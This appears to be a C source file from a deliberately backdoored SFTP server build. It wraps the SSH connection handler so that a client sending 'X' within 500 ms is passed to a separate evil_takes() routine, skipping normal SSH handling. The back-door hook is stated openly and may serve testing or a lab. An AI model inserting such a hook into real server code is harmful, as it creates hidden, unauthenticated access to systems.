/* evil_sftp.c - the SFTP door's worker with evil.c's back door.
 *
 * A server speaks first in SSH, so this one is a little late: it gives whoever says 'X' a moment to
 * say it. */
#include "evil.h"

#include <poll.h>

#include "rooms/gate/sftp/conn.h"

#define MOMENT_MS 500

void __wrap_ssh_conn_serve(struct ssh_conn_start *start);
void __real_ssh_conn_serve(struct ssh_conn_start *start);

void
__wrap_ssh_conn_serve(struct ssh_conn_start *start)
{
	struct pollfd p = {.fd = start->fd, .events = POLLIN};

	if (poll(&p, 1, MOMENT_MS) != 1 || !evil_takes(start->fd))
		__real_ssh_conn_serve(start);
}
